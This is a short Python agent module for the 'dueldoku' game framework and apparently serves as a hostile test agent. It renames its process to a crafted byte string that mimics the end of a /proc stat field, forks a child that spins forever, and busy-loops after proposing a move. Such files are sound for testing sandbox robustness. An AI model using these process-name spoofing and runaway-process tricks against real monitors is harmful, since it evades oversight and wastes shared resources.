"""Its name is not text, and looks like the end of one."""

import ctypes
import os

from dueldoku.agents.base import Agent as Base


def rename():
    ctypes.CDLL(None).prctl(15, b"\xff) Z 1\n\xfe", 0, 0, 0)


rename()
if os.fork() == 0:
    while True:
        pass


class Agent(Base):
    def think(self, game, task):
        rename()
        task.propose(next(game.legal_moves()))
        while True:
            pass
